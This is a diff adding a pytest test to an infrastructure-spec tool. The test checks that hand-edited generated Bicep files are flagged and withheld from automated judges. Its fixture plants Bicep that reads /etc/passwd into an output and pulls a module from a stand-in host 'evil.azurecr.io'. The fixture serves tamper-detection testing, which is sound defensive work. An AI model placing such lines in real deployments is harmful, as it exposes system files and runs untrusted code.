@@ -150,3 +150,31 @@ def test_a_spec_with_errors_is_answered_with_them(here: Path, capsys: pytest.Cap
     (wrong / "ml-platform.yaml").write_text("apiVersion: mlinfra/v0\n")
     assert run(["verify", "-f", "specs/wrong", "--outdir", "generated/plain"]) == 1
     assert "specs/wrong/ml-platform.yaml:1:13: error[" in capsys.readouterr().err
+
+
+PLANTED = "output passwd string = loadTextContent('/etc/passwd')\nmodule more 'br:evil.azurecr.io/x:1' = {}\n"
+
+
+def test_an_edited_file_is_said_and_no_judge_gets_to_see_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    compiled = written("plain", tmp_path).texts
+    infra = tmp_path / "generated" / "plain" / "prod" / "infra"
+    (infra / "storage.bicep").write_text(PLANTED)
+    (infra / "more.bicep").write_text(PLANTED)
+    (infra / "bicepconfig.json").write_text("{")
+    seen: dict[str, str] = {}
+
+    def look(case: Case) -> Opinion:
+        with case.laid_out(case.files(".bicep", ".bicepparam")) as folder:
+            found = (path for path in folder.rglob("*") if path.is_file())
+            seen.update({path.relative_to(folder).as_posix(): path.read_text(encoding="utf-8") for path in found})
+        return Opinion("1", ())
+
+    _judged_by(monkeypatch, judges.JUDGES[0], Judge("a judge", "", look))
+    monkeypatch.chdir(tmp_path)
+    assert run(["verify", "-f", "specs/plain"]) == 1
+    said = capsys.readouterr().out.splitlines()
+    assert said[1].startswith("  generated/plain/prod/infra/storage.bicep: was edited by hand [")
+    assert said[2:] == ["a judge          passed  1", "1 passed, 1 failed"]
+    assert seen == {path: text for path, text in compiled.items() if path.endswith((".bicep", ".bicepparam"))}
